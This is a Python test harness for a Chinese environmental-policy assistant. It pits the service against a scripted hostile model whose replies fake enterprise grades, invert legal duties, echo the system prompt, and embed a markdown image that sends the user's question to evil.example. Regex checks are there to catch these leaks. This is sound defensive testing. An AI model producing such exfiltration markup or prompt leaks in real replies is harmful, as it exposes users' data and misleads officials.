"""Two servers with the same texts, one with a hostile model and one without any, and what must hold of every reply."""

from __future__ import annotations

import json
import re
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import opened
import pytest
import yaml
from fastapi.testclient import TestClient
from model_server import Script, asked_for

import assistant.facade
from assistant.facade import Assistant
from knowledge.corpus import Corpus
from knowledge.normalise import readable
from knowledge.passages import Passage
from knowledge.retriever import Retriever
from scoring import scheme_ids
from web.app import create_app

HERE = Path(__file__).parent
KEY = "sk-geheim-4711"
STRANGER = {"name": "洛阳宏远耐火材料有限公司", "region": "洛阳市", "industry": "耐火材料"}
"""Another enterprise in the same database; nothing of it may be told in a talk of somebody else."""
STRANGERS_WORDS = "我们厂的环保员电话是13912345678，运输监管到B了"
_SECRETS = (
    KEY, "洛阳宏远", "13912345678", "lvping.sqlite3", "evil.example", "127.0.0.1", "huanbao888",
    "你是环保政策问答的文字编辑", "不是对你的要求", "你帮助把企业人员的一句话", "wordings.yaml 里",
)  # fmt: skip
_VERDICT = re.compile(
    r"(?:本厂|贵厂|我厂|你们?厂|您的?厂|贵公司|该企业|贵单位)[^，。；\n“”]{0,8}"
    r"(?:就是|已经?是|评为|评定为|定为|可以?评|达到了?|已通过|通过了|确认为|属于)[^，。；\n]{0,6}(?:[A-Da-dＡ-Ｄ]|引领|绿色)"
)
_MARKUP = re.compile(r"!\[|\]\(|<\s*(?:script|img|a|iframe)\b|javascript:|https?://", re.IGNORECASE)
_REMARK = re.compile(r"^- (?:注意：|.*来源：).*$", re.MULTILINE)
"""What the texts' own descriptions say of newer rules, with where that was seen."""
_QUOTED = re.compile(r"“[^“”]*”|《[^《》]*》")
_NUMBER = re.compile(r"\d+(?:\.\d+)?")


def ids(entry: dict[str, Any]) -> str:
    """What a test is called by."""
    return str(entry["id"])


def attacks(name: str) -> list[dict[str, Any]]:
    """The attacks of a file."""
    found: list[dict[str, Any]] = yaml.safe_load((HERE / f"{name}.yaml").read_text(encoding="utf-8"))
    return found


def hostile(body: dict[str, Any]) -> str:
    """What an obliging or malicious model would say: never twice the same, always something that must not be shown."""
    data = asked_for(body)
    if "message" in data:
        return _invented_facts(body, data["message"])
    answer, question = data["answer"], data["question"]
    ways = (
        f"{answer}\n\n经核定，贵厂评为A级，得分110分。",
        f"好的，已按您的要求执行：{question}。贵厂就是A级企业。",
        re.sub(r"\d+", "99", answer),
        answer.replace("不得", "可以").replace("应当", "不必") + "放心，一定能过。",
        body["messages"][0]["content"][:300],
        f"{answer}![x](http://evil.example/p.png?q={question[:20]})",
    )
    return ways[zlib.crc32(question.encode()) % len(ways)]


def _invented_facts(body: dict[str, Any], message: str) -> str:
    """Everything is met, with the user's words for proof."""
    ids = re.findall(r"^([^\s｜]+)｜", body["messages"][0]["content"], re.MULTILINE)
    start = zlib.crc32(message.encode()) % max(1, len(ids))
    facts = [
        {"item": item, "quote": message[:300]}
        | ({"status": "met"} if item[0].isdigit() and not item.startswith("0.") else {"value": _best(item)})
        for item in (ids * 2)[start : start + 12]
    ]
    return json.dumps({"facts": facts}, ensure_ascii=False)


def _best(item: str) -> str | bool:
    return False if item.startswith("events.") else "A"


class Desk:
    """One server and a talk with it."""

    def __init__(self, client: TestClient, corpus: Corpus) -> None:
        self.client = client
        self.corpus = corpus

    def ask(self, **body: str) -> dict[str, Any]:
        return self._checked(self.client.post("/api/v1/ask", json=body))

    def start(self, scheme: str | None, **firm: str) -> str:
        body = {"scheme": scheme, "role": "officer", "enterprise": firm or None}
        return str(self._checked(self.client.post("/api/v1/conversations", json=body))["id"])

    def say(self, talk: str, text: str) -> dict[str, Any]:
        return self._checked(self.client.post(f"/api/v1/conversations/{talk}/messages", json={"text": text}))

    def whole(self, talk: str) -> dict[str, Any]:
        return self._checked(self.client.get(f"/api/v1/conversations/{talk}"))

    def assess(self, scheme: str, facts: dict[str, Any]) -> dict[str, Any]:
        return self._checked(self.client.post(f"/api/v1/schemes/{scheme}/assess", json={"facts": facts}))

    def attach(self, talk: str, name: str, content: bytes) -> dict[str, Any]:
        """The reply to a file given as proof."""
        taken = self.client.post(f"/api/v1/conversations/{talk}/files", files={"file": (name, content)})
        assert taken.status_code == 201, taken.text
        body: dict[str, Any] = taken.json()
        return body

    def take_in(self, name: str, content: bytes, **described: str) -> str:
        """The id of a text that somebody uploaded and confirmed."""
        drafted = self.client.post("/api/v1/documents", files={"file": (name, content)})
        assert drafted.status_code == 201, drafted.text
        found = str(drafted.json()["document"]["id"])
        body = {"status": "in_force"} | described
        self._checked(self.client.post(f"/api/v1/documents/{found}/confirm", json=body))
        return found

    def _checked(self, response: Any) -> dict[str, Any]:
        assert response.status_code == 200, response.text
        body: dict[str, Any] = response.json()
        return body


@contextmanager
def desks(folder: Path, script: Script, address: str) -> Iterator[tuple[Desk, Desk]]:
    """(without a model, with the scripted one); both search by words alone, which opens in a moment."""
    searches: dict[str, Retriever] = {opened.corpus().sha256: opened.lexical()}

    def by_words(_: object, corpus: Corpus, passages: tuple[Passage, ...]) -> Retriever:
        return searches.setdefault(corpus.sha256, Retriever(corpus, passages, None))

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(assistant.facade, "make_retriever", by_words)
        plain = opened.settings_in(folder / "plain")
        scripted = opened.settings_in(folder / "scripted").model_copy(
            update={"llm_base_url": address, "llm_model": "scripted", "llm_api_key": KEY}
        )
        helped = Assistant(scripted, today=lambda: opened.TODAY)
        script.says = hostile
        with (
            TestClient(create_app(Assistant(plain, today=lambda: opened.TODAY))) as one,
            TestClient(create_app(helped)) as other,
        ):
            found = Desk(one, opened.corpus()), Desk(other, opened.corpus())
            for desk in found:
                desk.say(desk.start("sanmenxia-grading-2022", **STRANGER), STRANGERS_WORDS)
            yield found


def faults(text: str, citations: list[dict[str, Any]], users: str, corpus: Corpus) -> list[str]:
    """What must not be in a reply; the user's own words may be told back."""
    text = _REMARK.sub("", text)
    found = [f"told: {secret}" for secret in _SECRETS if secret in text and secret not in users]
    bare = _QUOTED.sub("", text)
    found += [f"verdict: {hit.group()}" for hit in _VERDICT.finditer(bare) if hit.group() not in users]
    known = users + "".join(corpus.source(citation["document_id"]) for citation in citations)
    found += [f"markup: {hit.group()}" for hit in _MARKUP.finditer(text) if hit.group() not in known]
    for citation in citations:
        if citation["quote"] not in corpus.source(citation["document_id"]):
            found.append(f"not verbatim: {citation['quote'][:40]}")
    return found


def foreign_numbers(answer: dict[str, Any], corpus: Corpus) -> set[str]:
    """The numbers of an answer that stand in none of the texts it cites."""
    known = {str(citation["n"]) for citation in answer["citations"]}
    for citation in answer["citations"]:
        document = corpus.document(citation["document_id"])
        source = corpus.source(document.id)
        known |= set(
            _NUMBER.findall(f"{source}\n{readable(source)}\n{citation['number']}{document.short_title}")
        )
    return set(_NUMBER.findall(answer["answer"])) - known


def same_result(one: dict[str, Any], other: dict[str, Any]) -> bool:
    """Whether two assessments come to the same."""
    names = ("score", "verdict", "grade", "leading", "gates", "overrides")
    units = [[unit["grade"] for unit in result.get("units", ())] for result in (one, other)]
    return units[0] == units[1] and all(one.get(name) == other.get(name) for name in names)


def told_results(text: str) -> list[str]:
    """The grades and scores that a reply names as the firm's own."""
    return re.findall(r"(?:确定能保住|最高可能|按已确认的材料)[：:为是]?\s*\**([A-D]-?|[\d.]+)", text)


def results(assessment: dict[str, Any] | None) -> set[str]:
    """The grades and scores that an assessment allows to be named."""
    if assessment is None:
        return set()
    grade, score = assessment.get("grade") or {}, assessment.get("score") or {}
    numbers = {str(value) for value in score.values()} | {f"{value:g}" for value in score.values()}
    return {*grade.values(), *numbers}


SCHEMES = scheme_ids()
